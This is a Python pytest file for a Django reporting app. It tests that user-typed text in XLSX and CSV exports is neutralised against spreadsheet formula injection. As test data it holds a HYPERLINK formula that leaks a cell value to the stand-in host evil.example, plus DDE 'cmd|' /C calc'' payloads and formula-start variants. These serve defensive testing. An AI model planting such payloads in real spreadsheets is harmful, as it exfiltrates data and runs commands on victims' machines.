"""Issue 17 §8: a text someone typed that starts like a formula (=HYPERLINK(...) from a roster or a
form) stayed a live formula in an exported spreadsheet. Every XLSX and CSV cell of user text goes
through core.xlsx.safe_cell: such a cell comes back as a string, never a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.xlsx import safe_cell, safe_row
from oversight import exports
from oversight.models import SelfInspection

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1"]


def formulas(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def texts(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("text", STARTS)
def test_every_formula_start_is_written_as_text(text):
    assert safe_cell(text) == "'" + text
    # In a workbook the cell is a string …
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(safe_row([text, 5, None]))
    buffer = io.BytesIO()
    wb.save(buffer)
    assert formulas(buffer.getvalue()) == []
    # … and in a CSV the field starts with the apostrophe spreadsheets read as "text".
    out = io.StringIO()
    csv.writer(out).writerow(safe_row([text]))
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + text


@pytest.mark.parametrize("value", ["张三", "020-83135469", "T440106199001011235", 3, 12.5, None, "a=b"])
def test_ordinary_values_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_monthly_xlsx_writes_every_typed_text_as_text():
    report = {
        "region": "440100",
        "region_name": HOSTILE,
        "unit": "+" + HOSTILE,
        "month": "2018-09",
        "rows": [{"section": "自查自纠·用人单位", "row": "用人单位（家）", "month": 1, "cumulative": 2}],
        "filled_by": HOSTILE,
        "reviewer": "＝" + HOSTILE[1:],
        "phone": "@SUM(1+1)*cmd|' /C calc'!A0",
        "submission": {"submitted_at_local": "2018-10-05 10:00"},
    }
    content = exports.xlsx(report)
    assert formulas(content) == []
    assert "'" + HOSTILE in texts(content)


def test_a_stored_formula_in_a_self_inspection_comes_back_as_a_string_cell(api):
    client = api("guangzhou.supervisor")
    body = {"region": "440100", "month": "2018-09", "employers": 120, "filled_by": "李明", "phone": "020-83135469"}
    assert client.put("/api/v1/reports/self-inspection/", body, format="json").status_code == 200
    # The form's validation refuses it on entry; an older or imported row may still hold one.
    SelfInspection.objects.filter(region_id="440100").update(filled_by=HOSTILE, phone="-2+3+cmd|' /C calc'!A0")
    r = client.get("/api/v1/reports/monthly/", {"region": "440100", "month": "2018-09", "format": "xlsx"})
    assert r.status_code == 200
    assert formulas(r.content) == []
    ws = load_workbook(io.BytesIO(r.content)).active
    signed = {ws.cell(row, 1).value: ws.cell(row, 2) for row in range(1, ws.max_row + 1)}
    assert signed["填表人"].value == "'" + HOSTILE and signed["填表人"].data_type == "s"
    assert signed["联系电话"].value.startswith("'-2+3")


def test_the_case_timeline_xlsx_writes_typed_texts_as_text(monkeypatch):
    """The timeline export of a case (oversight.audit.timeline_xlsx) holds event texts users typed."""
    from oversight import audit
    from tests.factories import CaseFactory

    case = CaseFactory(status="open", party_name=HOSTILE)
    monkeypatch.setattr(audit, "timeline_rows", lambda case, events, shown=None: [[HOSTILE, "add_evidence", "+1"]])
    content = audit.timeline_xlsx(case, [])
    assert formulas(content) == []
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == "'" + HOSTILE and sheet["C2"].value == "'+1"
